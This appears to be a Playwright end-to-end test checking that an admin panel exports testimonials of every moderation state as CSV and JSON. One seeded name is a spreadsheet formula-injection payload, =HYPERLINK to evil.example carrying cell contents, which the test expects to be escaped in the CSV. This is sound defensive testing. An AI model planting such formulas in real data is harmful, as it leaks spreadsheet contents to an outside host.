// The owner takes her data home: the moderation panel exports every record, in all three states,
// as CSV and JSON, downloaded and parsed here as she would open them.
import { randomBytes } from "node:crypto";
import { readFile } from "node:fs/promises";
import { expect, test, type Page } from "./fixtures";
import { messages } from "@/lib/messages";
import type { ExportRecord } from "@/lib/testimonial-export";
import { demo, signIn } from "../support/account";
import { parseCsv } from "../support/csv";
import { eraseTestimonials, seedTestimonials } from "../support/testimonials";

const t = messages.admin.export;
const tag = randomBytes(3).toString("hex");
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const seeded = [
  {
    id: `export-pending-${tag}`,
    name: FORMULA,
    status: "pending" as const,
    email: `p.${tag}@example.com`,
  },
  {
    id: `export-approved-${tag}`,
    name: `Published ${tag}`,
    status: "approved" as const,
    email: `a.${tag}@example.com`,
  },
  {
    id: `export-rejected-${tag}`,
    name: `Rejected ${tag}`,
    status: "rejected" as const,
    email: `r.${tag}@example.com`,
  },
].map((item, i) => ({ ...item, createdAt: new Date(Date.UTC(2026, 10, 1, 9, i)) }));

test.beforeAll(async () => seedTestimonials(seeded));
test.afterAll(async () => eraseTestimonials(seeded.map((s) => s.id)));

async function download(page: Page, button: string) {
  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: button }).click();
  const file = await downloading;
  const notice = page.locator("[data-export]").getByRole("status");
  await expect(notice).toHaveText(
    t.done(Number(/-(\d+)\.\w+$/.exec(file.suggestedFilename())![1]), file.suggestedFilename()),
  );
  return { name: file.suggestedFilename(), text: await readFile((await file.path())!, "utf8") };
}

test("the panel exports every record of every state as CSV and as JSON", async ({ page }) => {
  await page.goto("/admin/testimonials");
  await signIn(page, demo.admin.email, demo.admin.password);
  await expect(page.getByRole("heading", { name: t.title })).toBeVisible();

  const csv = await download(page, t.csv);
  expect(csv.name).toMatch(/^testimonials-\d{4}-\d{2}-\d{2}-\d+\.csv$/);
  const [header, ...rows] = parseCsv(csv.text);
  expect(header).toEqual([
    "ID",
    "Name",
    "Role",
    "Company",
    "Email",
    "Message",
    "Image URL",
    "Status",
    "Consent time",
    "Submitted",
    "Decided",
    "Featured",
  ]);
  expect(rows.length).toBe(Number(/-(\d+)\.csv$/.exec(csv.name)![1]));
  const byId = new Map(rows.map((row) => [row[0], row]));
  for (const item of seeded) {
    const row = byId.get(item.id)!;
    expect(row, item.id).toBeDefined();
    expect(row[4]).toBe(item.email);
    expect(row[7]).toBe(item.status);
    expect(row[8]).toBe(item.createdAt.toISOString());
    expect(row[10]).toBe(item.status === "pending" ? "" : item.createdAt.toISOString());
  }
  // A visitor's formula reaches the spreadsheet as text.
  expect(byId.get(seeded[0]!.id)![1]).toBe(`'${FORMULA}`);

  const json = await download(page, t.json);
  expect(json.name).toMatch(/^testimonials-\d{4}-\d{2}-\d{2}-\d+\.json$/);
  const data = JSON.parse(json.text) as { count: number; testimonials: ExportRecord[] };
  expect(data.testimonials.length).toBe(data.count);
  expect(data.count).toBe(Number(/-(\d+)\.json$/.exec(json.name)![1]));
  const pending = data.testimonials.find((r) => r.id === seeded[0]!.id)!;
  expect(pending).toMatchObject({
    name: FORMULA,
    email: seeded[0]!.email,
    status: "pending",
    consentAt: seeded[0]!.createdAt.toISOString(),
  });
  expect(new Set(data.testimonials.map((r) => r.status))).toEqual(
    new Set(["pending", "approved", "rejected"]),
  );
});
